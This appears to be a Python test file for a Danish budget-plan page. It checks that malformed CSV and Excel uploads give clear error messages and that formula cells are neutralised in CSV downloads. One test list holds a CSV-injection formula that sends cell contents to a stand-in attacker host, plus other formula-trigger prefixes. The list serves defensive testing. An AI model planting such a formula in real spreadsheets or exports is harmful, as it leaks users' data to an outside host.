"""The plan page's file reader and its CSV download: every malformed file gives a Danish
reason the page shows (never a traceback), and formulas never reach a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook

from tests.servers import KEY, Server
from ui.plan_file import PlanFileError, read_plan_file
from ui.plan_view import csv_amount, csv_text, result_csv


def _xlsx(rows: list[list[object]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _zip_without_workbook() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("hej.txt", "ikke en projektmappe")
    return out.getvalue()


MALFORMED: list[tuple[str, str, bytes, str]] = [
    ("empty csv", "plan.csv", b"", "filen er tom"),
    ("blank csv", "plan.csv", b" \r\n\n ", "filen er tom"),
    ("only a bom", "plan.csv", b"\xef\xbb\xbf", "filen er tom"),
    ("only a header", "plan.csv", "Aktivitet;Beløb\n".encode(),
     "ingen rækker med en aktivitet"),
    ("header and blank rows", "plan.csv", "Aktivitet;Beløb\n;\n;\n".encode(),
     "ingen rækker med en aktivitet"),
    ("windows-1252", "plan.csv", "Aktivitet;Beløb\nPAU for Søren;1000\n".encode("cp1252"),
     "ikke gemt som UTF-8"),
    ("utf-16", "plan.csv", "Aktivitet;Beløb\nPAU;1000\n".encode("utf-16"),
     "ikke en tekstfil"),
    ("binary junk named csv", "plan.csv", bytes(range(256)) * 4, "ikke en tekstfil"),
    ("png named csv", "plan.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "ikke en tekstfil"),
    ("unbalanced quotes", "plan.csv", 'Aktivitet;Beløb\n"PAU;1000\n'.encode(),
     "kunne ikke læses som CSV"),
    ("missing amount column", "plan.csv", b"Aktivitet;Pris pr. person\nPAU;1000\n",
     "kolonnen Beløb (kr.) mangler (filen har: Aktivitet, Pris pr. person)"),
    ("missing activity column", "plan.csv", "Navn,Beløb\nIda,1000\n".encode(),
     "kolonnen Aktivitet mangler"),
    ("a single column", "plan.csv", b"bare tekst\n", "kolonnen Aktivitet mangler"),
    ("an unreadable amount", "plan.csv", "Aktivitet;Beløb\nPAU;1000\nAMU;=1+2\n".encode(),
     "beløbet i række 3 (=1+2) kunne ikke læses"),
    ("an empty amount", "plan.csv", "Aktivitet;Beløb\nPAU;\n".encode(),
     "beløbet i række 2 (tom) kunne ikke læses"),
    ("text named xlsx", "plan.xlsx", b"Aktivitet;Bel\xc3\xb8b\nPAU;1000\n",
     "ikke en gyldig Excel-fil"),
    ("empty xlsx", "plan.xlsx", b"", "ikke en gyldig Excel-fil"),
    ("zip that is no workbook", "plan.xlsx", _zip_without_workbook(),
     "ikke en gyldig Excel-fil"),
    ("csv named xls", "plan.xls", b"Aktivitet,Belob\nPAU,1000\n", "ikke en gyldig Excel-fil"),
    ("empty workbook", "plan.xlsx", _xlsx([]), "filen er tom"),
    ("workbook with only a header", "plan.xlsx", _xlsx([["Aktivitet", "Beløb"]]),
     "ingen rækker med en aktivitet"),
    ("workbook without an amount", "plan.xlsx", _xlsx([["Aktivitet"], ["PAU"]]),
     "kolonnen Beløb (kr.) mangler"),
]


@pytest.mark.parametrize(("name", "filename", "data", "why"), MALFORMED,
                         ids=[m[0] for m in MALFORMED])
def test_a_malformed_plan_file_gives_a_danish_reason(name: str, filename: str, data: bytes,
                                                     why: str) -> None:
    with pytest.raises(PlanFileError) as caught:
        read_plan_file(filename, data, "da")
    assert why in str(caught.value)


def test_the_reason_is_in_english_on_the_english_page() -> None:
    with pytest.raises(PlanFileError, match="the file is empty"):
        read_plan_file("plan.csv", b"", "en")


def test_the_page_catches_the_readers_error() -> None:
    # The page shows every PlanFileError with st.error (AppTest cannot upload a file).
    from pathlib import Path

    page = (Path(__file__).resolve().parents[1] / "ui" / "plan.py").read_text(encoding="utf-8")
    assert "except PlanFileError as exc:" in page
    assert 'st.error(t("upload_bad", lang).format(why=exc))' in page


def test_a_workbook_and_negative_amounts_are_read() -> None:
    df = read_plan_file("plan.xlsx", _xlsx([["Aktivitet", "Kategori", "Beløb"],
                                            ["PAU for Ida", "pau", 1_600_000],
                                            ["Tilbagebetaling", None, -5000]]), "da")
    assert df.values.tolist() == [["PAU for Ida", "PAU", 1_600_000.0],
                                  ["Tilbagebetaling", "(ud fra beskrivelsen)", -5000.0]]
    df = read_plan_file("plan.csv", "Aktivitet;Beløb\nRetur;-5000\n".encode(), "da")
    assert df.iloc[0, 2] == -5000.0  # an amount, not a neutralised text
    assert csv_amount(-5000.0, "da") == "-5000"  # numbers are written as numbers


FORMULAS = ['=HYPERLINK("http://angriber.example/?d="&A1;"Klik her")', "+1+2 PAU", "-2+3 AMU",
            "@SUM(A1:A9) AMU", "\tPAU med tab", "\rPAU med CR", "  =1+1 AMU"]


@pytest.mark.slow
def test_formula_cells_are_text_on_input_and_neutralised_in_the_download(
        api_server: Server) -> None:
    from ui.client import ApiClient

    rows = "".join(f'"{f.replace(chr(34), chr(34) * 2)}";{n}000\n'
                   for n, f in enumerate(FORMULAS, start=1))
    df = read_plan_file("plan.csv", ("Aktivitet;Beløb\n" + rows).encode(), "da")
    # Read as the text it is; nothing evaluated ("\t"/"\r" and spaces are trimmed, as the
    # editor would).
    assert df.iloc[0, 0] == FORMULAS[0] and df.iloc[1, 0] == "+1+2 PAU"
    items = [{"description": str(r.iloc[0]), "amount_dkk": float(r.iloc[2])}
             for _, r in df.iterrows()]
    result = ApiClient(api_server.url, KEY).check_plan(1_000_000.0, items, "da")
    cells = list(csv.reader(io.StringIO(result_csv(result, "da").decode("utf-8-sig")),
                            delimiter=";"))
    descriptions = [row[1] for row in cells[1:]]
    assert len(descriptions) == len(FORMULAS)
    for cell, item in zip(descriptions, result["items"], strict=True):
        if item["description"].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell == "'" + item["description"], cell
        else:
            assert cell == item["description"]
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert [row[3] for row in cells[1:]] == [f"{n}000" for n in range(1, len(FORMULAS) + 1)]
    # And directly, for the cells the reader or a description cleaner trimmed on the way.
    assert all(csv_text(f) == "'" + f for f in FORMULAS)
